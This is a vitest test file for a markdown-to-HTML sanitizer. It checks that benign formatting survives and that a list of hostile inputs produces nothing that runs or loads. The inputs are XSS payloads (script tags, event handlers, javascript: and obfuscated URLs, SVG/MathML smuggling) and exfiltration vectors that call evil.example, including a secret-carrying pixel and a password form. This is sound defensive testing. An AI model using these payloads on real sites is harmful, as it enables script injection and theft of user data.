import { expect, it } from "vitest";
import { markdownToHtml } from "./markdown-html.ts";

it.each([
  [
    "**Renew** the `token`:\n\n3. a\n4. b",
    ["<strong>Renew</strong>", "<code>token</code>", '<ol start="3">'],
  ],
  ["See [help](https://a.example/x?a=1&b=2)", ['<a href="https://a.example/x?a=1&#x26;b=2">help</a>']],
  ["| a |\n|---|\n| 1 |", ["<table>", "<td>1</td>"]],
])("keeps what structures a text: %j", (markdown, parts) => {
  for (const part of parts) expect(markdownToHtml(markdown)).toContain(part);
});

it.each([
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "![track](https://evil.example/pixel.png?c=secret)",
  "[x](javascript:alert(1))",
  "[x](  java\u0000script:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox)",
  "<a href='javascript:alert(1)'>x</a>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><style>x{background:url(//evil.example)}</style></mtext></math>",
  '<form action="https://evil.example"><input name=password></form>',
  '<iframe src="https://evil.example"></iframe>',
  "- [ ] a task",
  "<style>*{background:url(//evil.example/css)}</style>",
  "[x]: javascript:alert(1)\n\n[x]",
  '<https://a.example/"onmouseover=alert(1)>',
  "<!--[if mso]><script>1</script><![endif]-->",
])("C2: nothing that runs, loads or asks comes out of %j", (markdown) => {
  const html = markdownToHtml(markdown);
  expect(html).not.toMatch(/<(?:script|img|svg|math|style|form|input|iframe|object|!--)/i);
  expect(html).not.toMatch(/<[^>]*\s(?:on\w+|src|style|class|id)\s*=/i);
  for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(?:https?:|mailto:|#)/);
});
